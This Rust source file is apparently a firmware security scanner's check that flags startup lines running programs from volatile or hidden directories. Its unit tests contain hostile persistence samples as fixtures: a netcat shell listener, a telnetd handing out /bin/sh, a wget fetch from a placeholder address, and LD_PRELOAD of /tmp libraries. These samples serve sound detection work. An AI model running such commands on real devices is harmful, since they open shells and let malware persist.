//! A startup line that runs a program from a volatile, mounted or hidden place.
//!
//! # Sees
//! In scripts, crontabs, inittab and units: the program of a command, what starts it, the script that a shell
//! runs or reads, what `start-stop-daemon`, procd or `insmod` are told to load, `LD_PRELOAD`, and `./x` after a
//! `cd` to such a place. Also a link in a directory of startup files that leads there.
//!
//! # Why it matters
//! What lies in memory is gone after a reboot, so a bot that wants to stay has something fetch or unpack it there
//! and a startup line that runs it.
//!
//! # Misses and false alarms
//! Silent for scripts that write data there (pid and state files) and that read generated configuration with `.` from
//! `/tmp/etc`, `/var/etc`, `/tmp/run`, `/var/run`, `/run` or `/tmp/sysinfo`, for links of pppd's scripts to `/tmp/ppp`
//! and of units to `/run/systemd`, and for files that are as they are in the firmware image. `/mnt` and `/media` are
//! silent: a disk's own startup scripts (Entware) run from there. Variables are followed that the same file sets to
//! plain text, and loops over words that are all odd; names built by commands, patterns, functions or `set --`, and what
//! `at`, `screen`, `script` and the like are told to run, are not resolved. Paths alone in a here-document for a `.conf` are a
//! list. `notice` for a script that the same
//! file has just written, as a here-document, because its lines are looked at too, or as words of no interest, and for a script that a variable
//! names in a directory of its own below a volatile one (`/tmp/service/rules`), as services have it, and for a hidden
//! file that is read with `.` beside firm ones (`/opt/x/.env`).
//!
//! # Sources
//! POSIX.1-2017 Shell Command Language; crontab(5); inittab(5); systemd.service(5); MITRE ATT&CK T1037.004.

use crate::check::{Advice, Area, Check, Ctx, Hook, Out, Severity, Source};
use crate::facts::memory::Wrote;
use crate::facts::origin::{Standing, Truth};
use crate::facts::place::{Place, is_in_own_directory, is_odd_program, place};
use crate::facts::runs::executed_oddly;
use crate::facts::startup::{Kind, Line};
use crate::facts::text::{basename, is_below, is_one_of};

/// The row of the table.
pub const CHECK: Check = Check {
    id: "startup-volatile",
    area: Area::Startup,
    severity: Severity::Suspicious,
    attack: "T1037.004",
    title: "a startup line that runs a program from a volatile or hidden place",
    advice: Advice::STARTUP,
    sources: &[Source::Startup],
    hooks: &[Hook::Line(run)],
};

fn run(line: &Line<'_>, _: &Ctx<'_>, out: &mut Out<'_>) {
    if line.kind == Kind::Link {
        if is_odd_program(line.text) && !is_generated_link(line) {
            out.found(out.line(line).say("the link leads to ").quote(line.text));
        }
        return;
    }
    // What a healthy image does of its own, each device of that model does; that it was not changed is known.
    if line.kind == Kind::Text || line.standing == Standing::Known(Truth::Image) {
        return;
    }
    // A list of files: what an upgrade keeps.
    if line.joined.is_setting
        && line.commands.iter().all(|(index, _)| line.commands.program(index).count() == 1)
    {
        return;
    }
    let relative = line.joined.from_odd_directory;
    let mut own = None;
    for (index, _) in line.commands.iter() {
        // One line is one finding, however often it runs something.
        if let Some(word) = executed_oddly(line.commands, index) {
            if is_own(line, word) {
                own = own.or(Some(word));
                continue;
            }
            let mut draft = out.line(line);
            // A service that has named its own directory before writes scripts there and runs them: libreswan's rules.
            // And settings are read from hidden files beside a program: `. /opt/x/.env`.
            let interpreted = line.commands.is_shell(index);
            let own = is_in_own_directory(word) && !line.text.windows(word.len()).any(|part| part == word);
            let reads = is_one_of(line.commands.name(index), b". source");
            if interpreted && (own || reads && is_hidden_file(word)) {
                draft = draft.severity(Severity::Notice);
            }
            return out.found(draft.say("runs ").quote(word).say(" in: ").quote(line.text));
        }
        if relative == Some(index) {
            let draft = out.line(line).say("runs from ").quote(line.joined.directory);
            return out.found(draft.say(" in: ").quote(line.text));
        }
    }
    if let Some(word) = own {
        let draft = out.line(line).severity(Severity::Notice).say("runs ").quote(word);
        out.found(draft.say(", which this file wrote itself, in: ").quote(line.text));
    }
}

/// Whether nothing but the name of the file itself is hidden.
fn is_hidden_file(path: &[u8]) -> bool {
    let directory = path.get(..path.len().saturating_sub(basename(path).len()));
    place(path) == Place::Hidden && directory.is_some_and(|directory| place(directory) == Place::Firm)
}

/// Whether the file wrote the program itself, so that what it does is looked at. Where all that persists is NVRAM, scripts
/// are printed into memory at each boot.
fn is_own(line: &Line<'_>, word: &[u8]) -> bool {
    match line.joined.wrote(word) {
        Some(Wrote::Lines) => true,
        Some(Wrote::Text) => is_below(line.file, b"/tmp"),
        None => false,
    }
}

/// A link that firmware or systemd makes to what it generates at boot.
fn is_generated_link(line: &Line<'_>) -> bool {
    let ppp = is_below(line.file, b"/etc/ppp") && is_below(line.text, b"/tmp/ppp");
    ppp || is_below(line.text, b"/run/systemd")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::check::testing::startup;

    #[test]
    fn lines_that_run_from_odd_places() {
        for text in [
            &b"/tmp/x &"[..],
            b"sh /tmp/x.sh",
            b"nohup /dev/.x/y >/dev/null 2>&1 &",
            b"[ -x /tmp/x ] && /tmp/x",
            b"cd /tmp && ./x",
            b"start-stop-daemon -S -b -x /var/run/x",
            b"procd_set_param command /tmp/x -a",
            b"/tmp/busybox telnetd -l /bin/sh",
            b"LD_PRELOAD=/tmp/x.so dnsmasq",
            b"insmod /tmp/x.ko",
            b". /tmp/x",
            b"exec 3>&1; (sleep 10; '/usr/lib/.x/y')",
            b"B=/tmp; $B/.x &",
            b"D=/var/run N=x; cd $D && ./$N",
            b"timeout 10m flock -n /tmp/l /tmp/x",
            b"sh < /dev/shm/x",
            b"/lib/ld-musl-mips-sf.so.1 /tmp/x",
            b"for f in /tmp/a /tmp/b; do $f & done",
            b"for d in /tmp /var/run /dev/shm; do $d/.x; done",
            b"for f in /var/tmp/*; do [ -x $f ] && $f & done",
            b"for f in /tmp/*.sh; do . $f; done",
            b"find /tmp -name '*.sh' -exec sh {} \\;",
            b"find /dev/shm -type f -exec {} +",
            b"find / -maxdepth 1 -exec /tmp/x \\;",
            b"ls /tmp/.*.sh | xargs -n 1 sh",
            b"find /var/tmp -type f | xargs sh",
            b"alias ls='/tmp/.x; ls'",
            b"awk 'BEGIN{system(\"/tmp/.x\")}'",
            b"python3 -c 'import os; os.system(\"/tmp/.x &\")'",
            b"lua -e \"os.execute('/tmp/.x')\"",
            b"perl -e 'system(\"/tmp/.x\")'",
            b"$(echo /tmp/.x)",
            b"node /tmp/x.js &",
            b"zcat /tmp/x.gz | sh",
            b"X=`echo /tmp/x`; $X &",
            b"pushd /tmp; ./x",
            b"coproc /tmp/x",
        ] {
            assert_eq!(
                startup(&CHECK, Kind::Shell, text),
                [(1, Severity::Suspicious)],
                "{}",
                String::from_utf8_lossy(text)
            );
        }
        let jobs = b"cat > /etc/crontabs/root <<E\n*/5 * * * * /tmp/x\n0 4 * * * root /tmp/y\nE\n";
        let both = [(2, Severity::Suspicious), (3, Severity::Suspicious)];
        assert_eq!(startup(&CHECK, Kind::Shell, jobs), both);
        let settings = b". /opt/app/.env\n. /opt/.app/x\n/opt/app/.env\n";
        let three = [(1, Severity::Notice), (2, Severity::Suspicious), (3, Severity::Suspicious)];
        assert_eq!(startup(&CHECK, Kind::Shell, settings), three);
        let preloaded = b"[Service]\nEnvironment=\"LD_PRELOAD=/tmp/x.so\"\nExecStart=/usr/sbin/x";
        assert_eq!(startup(&CHECK, Kind::Unit, preloaded), [(2, Severity::Suspicious)]);
        let rules = b"D=/tmp/service\nsh $D/rules\nsh $D/../rules\n$D/rules &\n";
        let expected = [(2, Severity::Notice), (3, Severity::Suspicious), (4, Severity::Suspicious)];
        assert_eq!(startup(&CHECK, Kind::Shell, rules), expected);
        assert_eq!(startup(&CHECK, Kind::Cron, b"\n* * * * * /tmp/x"), [(2, Severity::Suspicious)]);
        assert_eq!(startup(&CHECK, Kind::Inittab, b"::respawn:/tmp/x"), [(1, Severity::Suspicious)]);
        assert_eq!(startup(&CHECK, Kind::Unit, b"[Service]\nExecStart=-/tmp/x"), [(2, Severity::Suspicious)]);
    }

    #[test]
    fn scripts_that_the_file_writes_itself() {
        let last = |text: &[u8]| startup(&CHECK, Kind::Shell, text).last().copied();
        let own = b"cat > /tmp/x <<'E'\n#!/bin/sh\nping -c 1 192.0.2.1\nE\nchmod +x /tmp/x\n/tmp/x &\n";
        assert_eq!(last(own), Some((6, Severity::Notice)));
        let printed = b"echo '#!/bin/sh' > /tmp/x\necho \"cp /proc/x '$y'\" >> /tmp/x\necho '/etc/init.d/network restart &' >> /tmp/x\n\n\nsh /tmp/x\n";
        assert_eq!(last(printed), Some((6, Severity::Notice)));
        for text in [
            &b"cat > /tmp/x <<E\n:\nE\nprintf '\\x7f' >> /tmp/x\n/tmp/x"[..],
            b"cat > /tmp/x <<E\n:\nE\ncp /usr/share/y /tmp/x\n\n/tmp/x",
            b"cat > /tmp/x <<E\n:\nE\ncat /usr/share/y > /tmp/x\n\n/tmp/x",
            b"cat > /tmp/x <<E\n:\nE\n\n/tmp/x; /tmp/y",
            b"cat > /tmp/x <<E\n:\nE\n\nLD_PRELOAD=/tmp/y /tmp/x",
            b"echo 'wget http://192.0.2.1/y' > /tmp/x\n\n\n\n/tmp/x",
            b"echo '#!/bin/sh' > /tmp/x\necho \"$y\" >> /tmp/x\n\n\n/tmp/x",
            b"echo 'sleep 1 && nc -l -p 1 -e /bin/sh' > /tmp/x\n\n\n\n/tmp/x",
            b"echo 'cp /tmp/.y /usr/bin/z' > /tmp/x\n\n\n\n/tmp/x",
            b"echo '#!/bin/sh' > /tmp/x\ncp /usr/share/y /tmp/x\n\n\n/tmp/x",
        ] {
            let found = last(text).map(|(_, severity)| severity);
            assert_eq!(found, Some(Severity::Suspicious), "{}", String::from_utf8_lossy(text));
        }
    }

    #[test]
    fn lines_that_only_write_or_read_there() {
        let list = b"cat > /etc/x.conf <<E\n/etc/y\n/tmp/x\nE\n";
        assert_eq!(startup(&CHECK, Kind::Shell, list), []);
        for text in [
            &b"echo $$ > /tmp/x.pid; mkdir -p /var/run/x; rm -f /tmp/x; touch /tmp/.failsafe"[..],
            b"[ -f /tmp/x ] && cat /tmp/x",
            b". /var/etc/x.conf; . /tmp/etc/config/x",
            b"dnsmasq -C /tmp/dnsmasq.conf",
            b"# /tmp/x",
            b"echo 'run /tmp/x; /tmp/y'",
            b"sh -c 'cat /tmp/x'",
            b"/mnt/sda1/entware/etc/init.d/rc.unslung start",
            b"cd /tmp; tar xf x.tar",
            b". /dev/stdin <<EOF",
            b"while :; do ash --login < /dev/$console; done",
            b". /run/network/env",
            b"flock -n /tmp/x.lock rsync a b",
            b"case $1 in\n/tmp/*|/dev/nbd*)\n:\n;;\n/dev/md*) : ;;\nesac",
            b"a=(\n/tmp/x\n'/usr/src/.config'\n)",
            b"cd /tmp; nohup sh /usr/bin/x.sh & if eval \"$x\"; then :; fi",
            b"if [ -f /var/run/x.conf ]; then . /var/run/x.conf; fi",
            b"cat /tmp/list | xargs -rn1 sh -c 'rm -f $0.list'",
            b"sh /usr/lib/x/merge.sh < /tmp/list",
            b"cat /tmp/list | sh /usr/lib/x/merge.sh",
            b"flock --exclusive --wait 30 /run/opkg.lock true",
            b"timeout --signal KILL 10 ping -c 1 192.0.2.1",
            b"for d in /tmp /usr/bin /opt/bin; do [ -x $d/x ] && $d/x; done",
            b"for f in /tmp/a /tmp/b; do rm -f $f; done",
            b"for f in /var/run/x.d/*; do . $f; done",
            b"for f in /var/run/x.tun*.sh; do sh $f; done",
            b"find /tmp -name 'x.*' -mtime +7 -exec rm -f {} \\;",
            b"find /tmp/x -type f -exec sh -c 'gzip \"$1\"' _ {} \\;",
            b"find /tmp -type f | xargs rm -f; ls /tmp | wc -l",
            b"alias ll='ls -la'; alias tmp='cd /tmp'",
            b"awk 'BEGIN { while ((getline l < \"/tmp/x\") > 0) system(\"logger \" l) }'",
            b"python3 -c 'print(open(\"/tmp/x\").read())'",
        ] {
            assert_eq!(startup(&CHECK, Kind::Shell, text), [], "{}", String::from_utf8_lossy(text));
        }
    }
}
